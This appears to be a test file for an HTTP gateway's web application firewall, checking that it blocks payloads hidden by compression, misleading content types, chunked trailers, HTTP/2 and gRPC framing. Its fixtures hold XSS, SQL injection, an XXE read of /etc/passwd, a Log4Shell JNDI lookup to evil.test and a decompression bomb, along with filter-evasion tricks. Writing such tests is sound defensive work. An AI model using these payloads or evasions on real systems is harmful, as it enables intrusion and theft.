import { afterAll, describe, expect, test } from "bun:test";
import http2 from "node:http2";
import type { AddressInfo } from "node:net";
import zlib from "node:zlib";
import { EchoOrigin } from "../harness/echo-origin.ts";
import { eventually } from "../harness/eventually.ts";
import { type Gateway, startGateway, upstream } from "../harness/gateway.ts";
import { H2Client, head } from "../harness/h2-client.ts";
import { sumOf } from "../harness/metrics-text.ts";
import { chunked, json, request } from "../harness/raw-client.ts";
import { stopAll } from "../harness/teardown.ts";

// Nothing that a client writes about a body, and nothing that comes behind one, gets past the firewall.

const origin = EchoOrigin.start();
const seenMessages: Buffer[] = [];
const h2Origin = http2.createServer();
h2Origin.on("stream", (one) => {
  const stream = one as http2.ServerHttp2Stream;
  stream.on("error", () => {});
  stream.respond({ ":status": 200, "content-type": "application/grpc" });
  stream.on("data", (chunk: Buffer) => {
    seenMessages.push(chunk);
    stream.write(chunk);
  });
  stream.on("end", () => stream.end());
});
await new Promise<void>((resolve) => h2Origin.listen(0, "127.0.0.1", resolve));
const h2Url = `h2c://127.0.0.1:${(h2Origin.address() as AddressInfo).port}`;
const routes = [
  upstream("/node", origin),
  upstream("/through", origin, { inbound_chunked_mode: "passthrough" }),
  upstream("/h2c", { url: h2Url }),
];
const LIMIT = 4096;
const start = (waf: object) => startGateway({ config: { server: { waf: { enabled: true, ...waf } } }, routes });
const gateway = await start({});
const strict = await start({ over_limit: "reject", max_inspect_body_size: LIMIT });
const detecting = await start({ over_limit: "reject", max_inspect_body_size: LIMIT, mode: "detection" });
afterAll(async () => {
  await strict.stop();
  await detecting.stop();
  await stopAll(gateway, origin);
  h2Origin.close();
});

const SCRIPT = "<script>alert(1)</script>";
const FORM = "Content-Type: application/x-www-form-urlencoded";
const ATTACK = Buffer.from(`a=1&q=${encodeURIComponent(SCRIPT)}`);
const GOOD = Buffer.from("a=1&q=two+words");

/** @returns the status, and whether the origin saw anything of the request */
async function ask(to: Gateway, bytes: Uint8Array): Promise<[status: number, reached: boolean]> {
  const before = origin.requests.length;
  const reply = await to.once(bytes);
  return [reply.status, origin.requests.length > before];
}

const PACKED: Readonly<Record<string, (body: Buffer) => Buffer>> = {
  gzip: zlib.gzipSync,
  "X-GZIP": zlib.gzipSync,
  deflate: zlib.deflateSync,
  "deflate ": zlib.deflateRawSync,
  br: zlib.brotliCompressSync,
  zstd: zlib.zstdCompressSync,
  "gzip, br": (body) => zlib.brotliCompressSync(zlib.gzipSync(body)),
  "identity, gzip,identity": zlib.gzipSync,
  "gzip\r\nContent-Encoding: deflate": (body) => zlib.deflateSync(zlib.gzipSync(body)),
  "gzip,deflate ,BR": (body) => zlib.brotliCompressSync(zlib.deflateSync(zlib.gzipSync(body))),
  "": (body) => body,
  identity: (body) => body,
  gzip2: (body) => body,
  "aes128gcm, gzip": (body) => body,
};

describe("a content coding hides nothing", () => {
  test.each(Object.entries(PACKED))("%j", async (coding, pack) => {
    const send = (body: Buffer) =>
      request("POST /node/echo", [FORM, `Content-Encoding: ${coding}`], new Uint8Array(pack(body)));
    expect(await ask(gateway, send(ATTACK))).toEqual([403, false]);
    expect(await ask(gateway, send(GOOD))).toEqual([200, true]);
  });

  test("in chunks, and to an origin that gets the chunks as they come", async () => {
    const lines = [FORM, "Content-Encoding: gzip", "Transfer-Encoding: chunked"];
    for (const path of ["/node/echo", "/through/echo"]) {
      const send = (body: Buffer) => request(`POST ${path}`, lines, chunked(zlib.gzipSync(body), 7));
      expect(await ask(gateway, send(ATTACK))).toEqual([403, false]);
      expect(await ask(gateway, send(GOOD))).toEqual([200, true]);
    }
  });

  test("nor do more of them than are undone, nor a body that grows without end", async () => {
    const four = [1, 2, 3, 4].reduce((body) => Buffer.from(zlib.gzipSync(body)), ATTACK);
    const lines = [FORM, "Content-Encoding: gzip, gzip, gzip, gzip"];
    expect(await ask(gateway, request("POST /node/echo", lines, new Uint8Array(four)))).toEqual([403, false]);
    const bomb = Buffer.concat([ATTACK, Buffer.alloc(4 * 1024 * 1024, "a")]);
    for (const [coding, pack] of Object.entries({
      gzip: zlib.gzipSync,
      br: zlib.brotliCompressSync,
      zstd: zlib.zstdCompressSync,
    })) {
      const bytes = request("POST /node/echo", [FORM, `Content-Encoding: ${coding}`], new Uint8Array(pack(bomb)));
      expect([coding, ...(await ask(gateway, bytes))]).toEqual([coding, 403, false]);
    }
  });

  test("nor does a stream that some readers take and others do not", async () => {
    const json = Buffer.from(JSON.stringify({ q: SCRIPT }));
    const inside = Buffer.from(zlib.deflateRawSync(json));
    const member = Buffer.concat([Buffer.from("1f8b0802000000000003ffff", "hex"), inside]);
    const good = Buffer.from(zlib.gzipSync("{}"));
    for (const body of [
      member,
      Buffer.concat([good, member]),
      Buffer.concat([good, Buffer.alloc(3), zlib.gzipSync(json)]),
    ]) {
      const lines = ["Content-Type: application/octet-stream", "Content-Encoding: gzip"];
      expect(await ask(gateway, request("POST /node/echo", lines, new Uint8Array(body)))).toEqual([403, false]);
    }
    const one = new Uint8Array(zlib.gzipSync(json));
    for (const coding of ["gzip, br", "zstd,gzip", '"gzip"', "x-gzip;q=1"]) {
      const lines = ["Content-Type: application/octet-stream", `Content-Encoding: ${coding}`];
      expect([coding, ...(await ask(gateway, request("POST /node/echo", lines, one)))]).toEqual([coding, 403, false]);
    }
    // The origin is told of no coding then.
    const reply = await gateway.once(request("POST /node/echo", ["Content_Encoding: gzip", "Content_Type: a/b"], one));
    expect(reply.status).toBe(200);
    expect(reply.text.toLowerCase()).not.toMatch(/content.(?:encoding|type)"/);
  });

  test("a block of zstd that is longer than what is inspected is inspected all the same", async () => {
    const noise = Buffer.from(crypto.getRandomValues(new Uint8Array(60_000))).toString("hex");
    const body = new Uint8Array(zlib.zstdCompressSync(Buffer.from(`${ATTACK}&pad=${noise}`)));
    expect(await ask(gateway, request("POST /node/echo", [FORM, "Content-Encoding: zstd"], body))).toEqual([
      403,
      false,
    ]);
  });
});

describe("a label hides nothing", () => {
  const multipart = `--b\r\nContent-Disposition: form-data; name="q"; filename=""\r\nContent-Type: a/b\r\n\r\n${SCRIPT}\r\n--b--\r\n`;
  test.each([
    [[], ATTACK],
    [["Content-Type:"], ATTACK],
    [["Content-Type: application/octet-stream"], ATTACK],
    [["Content-Type: text/plain;charset=utf-8"], ATTACK],
    [["Content-Type: Application/X-WWW-form-urlencoded ;;x"], ATTACK],
    [["Content-Type: a/b", FORM], ATTACK],
    [["Content-Type: a/b, application/x-www-form-urlencoded"], ATTACK],
    [[], Buffer.from(JSON.stringify({ a: "1' or 1=1--" }))],
    [["Content-Type: image/png"], Buffer.from(`${JSON.stringify({ q: SCRIPT })}`)],
    [["Content-Type: application/json"], Buffer.from(`{"q":"${SCRIPT}"}`, "utf16le")],
    [["Content-Type: text/plain"], Buffer.from(`{"q":"${SCRIPT}"}`, "utf16le")],
    [["Content-Type: text/plain"], Buffer.from('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>')],
    [["Content-Type: application/msgpack"], Buffer.from(`\x81\xa1q\xb9${SCRIPT}`, "latin1")],
    [["Content-Type: multipart/form-data; boundary=b"], Buffer.from(multipart)],
    [["Content-Type: multipart/mixed; boundary=b"], Buffer.from(multipart.replace("; filename=", "; x="))],
    [["Content-Type: application/json; charset=base64"], Buffer.from(ATTACK.toString("base64"))],
  ] as [string[], Buffer][])("%j %j", async (lines, body) => {
    expect(await ask(gateway, request("POST /node/echo", lines, new Uint8Array(body)))).toEqual([403, false]);
  });

  test.each(["GET", "HEAD", "DELETE", "OPTIONS", "PATCH", "FOO"])("nor does %s", async (method) => {
    const before = origin.requests.length;
    const client = await gateway.connect();
    client.send(request(`${method} /node/echo`, [], new Uint8Array(ATTACK)));
    expect((await client.reply(method)).status).toBe(403);
    client.close();
    expect(origin.requests.length).toBe(before);
  });

  test("nor HTTP/2 without a length", async () => {
    const client = await H2Client.connect(gateway.port);
    const reply = await client.request(head("POST", "/node/echo"), ATTACK);
    expect([reply.status, (await gateway.once(request("POST /node/echo", [], new Uint8Array(GOOD)))).status]).toEqual([
      403, 200,
    ]);
    client.close();
  });
});

describe("over_limit: reject", () => {
  const text = (length: number) => `a=${"b".repeat(length - 2)}`;

  test("answers 413 to what is longer than what is inspected, and says so", async () => {
    const told = () => strict.logs.json.filter((line) => line.event === "waf_over_limit").length;
    const before = told();
    const bodies = [
      request("POST /node/echo", [FORM], text(LIMIT + 1)),
      request("POST /node/echo", [FORM, "Transfer-Encoding: chunked"], chunked(text(LIMIT + 1), 1000)),
      request("POST /through/echo", [FORM, "Transfer-Encoding: chunked"], chunked(text(LIMIT * 3), 1000)),
      request("POST /node/echo", [FORM, "Content-Encoding: gzip"], new Uint8Array(zlib.gzipSync(text(LIMIT + 1)))),
      request("POST /node/echo", [FORM, "Content-Encoding: br"], new Uint8Array(zlib.brotliCompressSync(text(LIMIT)))),
      request("POST /node/echo", ["Expect: 100-continue", "Content-Length: 5000"]),
    ];
    for (const bytes of bodies) expect(await ask(strict, bytes)).toEqual([413, false]);
    await eventually(() => expect(told()).toBe(before + bodies.length));
    const line = strict.logs.json.findLast((one) => one.event === "waf_over_limit");
    expect(line).toMatchObject({ key: "server.waf.over_limit", max_inspect_body_size: LIMIT, path: "/node/echo" });
    const metrics = await strict.samples();
    expect(sumOf(metrics, "gateway_waf_blocked_requests_total", { category: "over_limit" })).toBe(bodies.length);
  });

  test("takes what is as long, and in detection mode anything", async () => {
    const noise = Buffer.from(crypto.getRandomValues(new Uint8Array(LIMIT / 2 - 1))).toString("hex");
    const packed = new Uint8Array(zlib.gzipSync(`a=${noise}`));
    for (const bytes of [
      request("POST /node/echo", [FORM], text(LIMIT)),
      request("POST /node/echo", [FORM, "Transfer-Encoding: chunked"], chunked(text(LIMIT), 1000)),
      request("POST /node/echo", [FORM, "Content-Encoding: gzip"], packed),
    ]) {
      expect(await ask(strict, bytes)).toEqual([200, true]);
    }
    expect(await ask(detecting, request("POST /node/echo", [FORM], text(LIMIT * 2)))).toEqual([200, true]);
  });

  test("holds for HTTP/2 as well", async () => {
    const client = await H2Client.connect(strict.port);
    expect((await client.request(head("POST", "/node/echo"), text(LIMIT + 1))).status).toBe(413);
    client.close();
  });
});

describe("trailers", () => {
  const trailers = ["X-Api-Version: ${jndi:ldap://evil.test/a}"];

  test("behind chunks that go on as they come", async () => {
    const send = (path: string, lines: readonly string[], body: string) =>
      request(`POST ${path}`, ["Transfer-Encoding: chunked"], chunked(body, 900, lines));
    for (const path of ["/node/echo", "/through/echo"]) {
      expect(await ask(gateway, send(path, trailers, "hello"))).toEqual([403, false]);
      expect(await ask(gateway, send(path, ["X-Api-Version: 2"], "hello"))).toEqual([200, true]);
    }
  });

  test("that come when the body is under way: the request is cut, and the origin never sees its end", async () => {
    const client = await gateway.connect();
    client.send(
      request("POST /through/echo", ["Transfer-Encoding: chunked"], chunked("a".repeat(200_000), 9000, trailers)),
    );
    const reply = await client.reply();
    client.close();
    expect(reply.status).toBe(403);
    expect(json(reply)).toMatchObject({ triggered_rules: ["LOG4J-001"] });
  });

  test.each(["/h2c/t", "/node/echo"])("of HTTP/2 to %s", async (path) => {
    const before = origin.requests.length;
    const client = await H2Client.connect(gateway.port);
    const id = client.headers(head("POST", path), false);
    client.data(id, "hello");
    client.headers([["x-api-version", "${jndi:ldap://evil.test/a}"]], true, id);
    expect((await client.reply(id)).status).toBe(403);
    expect(origin.requests.length).toBe(before);
    client.close();
  });
});

/** A message of gRPC with one text in it. */
function message(text: string, pack: ((body: Buffer) => Buffer) | null = null): Buffer {
  const field = Buffer.concat([Buffer.from([0x0a, text.length]), Buffer.from(text)]);
  const content = pack === null ? field : pack(field);
  const lead = Buffer.alloc(5);
  lead[0] = pack === null ? 0 : 1;
  lead.writeUInt32BE(content.length, 1);
  return Buffer.concat([lead, content]);
}

describe("messages of gRPC", () => {
  const call = async (): Promise<[H2Client, number]> => {
    const client = await H2Client.connect(gateway.port);
    const fields = [...head("POST", "/h2c/shop.Items/Find"), ["content-type", "application/grpc"] as const];
    return [client, client.headers(fields, false)];
  };

  test("go on one by one: an answer comes before the next is sent", async () => {
    const [client, id] = await call();
    let expected = Buffer.alloc(0);
    for (const text of ["one", "two it's", "three"]) {
      const bytes = message(text);
      client.data(id, bytes.subarray(0, 4));
      client.data(id, bytes.subarray(4));
      expected = Buffer.concat([expected, bytes]);
      await arrives(client, id, expected);
    }
    client.data(id, "", true);
    expect((await client.reply(id)).body).toEqual(expected);
    client.close();
  });

  test.each([
    ["as it is", null],
    ["compressed", zlib.gzipSync],
  ] as const)("and a hostile one cuts the call: %s", async (_how, pack) => {
    const [client, id] = await call();
    client.data(id, message("one"));
    await arrives(client, id, message("one"));
    seenMessages.length = 0;
    client.data(id, message(SCRIPT, pack));
    await client.until("a reset", () => (client.seen(id).reset >= 0 ? true : undefined));
    expect(seenMessages).toEqual([]);
    client.close();
  });

  test("are bounded together, not one by one: by what is inspected of a body, and by what that costs", async () => {
    const open = async (to: Gateway): Promise<[H2Client, number]> => {
      const client = await H2Client.connect(to.port);
      const fields = [...head("POST", "/h2c/x"), ["content-type", "application/grpc"] as const];
      return [client, client.headers(fields, false)];
    };
    const [client, id] = await open(strict);
    for (let sent = 0; sent <= LIMIT; sent += 1000) client.data(id, message("x".repeat(990)));
    await client.until("a reset", () => (client.seen(id).reset >= 0 ? true : undefined));
    client.close();
    // To look at one that says it is compressed, and has no mark of a format, costs several decompressors.
    const [other, call2] = await open(gateway);
    const tiny = Buffer.from([1, 0, 0, 0, 1, 0x61]);
    for (let i = 0; i < 400 && other.seen(call2).reset < 0; i++) {
      other.data(call2, tiny);
      await Bun.sleep(0);
    }
    await other.until("a reset", () => (other.seen(call2).reset >= 0 ? true : undefined));
    await eventually(() => expect(gateway.logs.json.some((line) => line.rule_id === "PROTOCOL-007")).toBe(true));
    other.close();
  });

  test("are none where another type is named as well: the body is judged as a whole", async () => {
    const client = await H2Client.connect(gateway.port);
    const type = "application/x-www-form-urlencoded; a=application/grpc";
    const id = client.headers([...head("POST", "/h2c/x"), ["content-type", type]], false);
    seenMessages.length = 0;
    const text = "a=1'/*";
    client.data(id, Buffer.from(`\0\0\0\0${String.fromCharCode(text.length)}${text}`));
    client.data(id, Buffer.from("\0\0\0\0\x16*/union select password"), true);
    expect((await client.reply(id)).status).toBe(403);
    expect(seenMessages).toEqual([]);
    client.close();
  });

  test("a whole call that is hostile is refused", async () => {
    const [client, id] = await call();
    client.data(id, Buffer.concat([message("one"), message("1 UNION SELECT user,password FROM users")]), true);
    expect((await client.reply(id)).status).toBe(403);
    client.close();
  });
});

async function arrives(client: H2Client, id: number, bytes: Buffer): Promise<void> {
  await client.until("what was sent", () => (client.seen(id).body.equals(bytes) ? true : undefined));
}
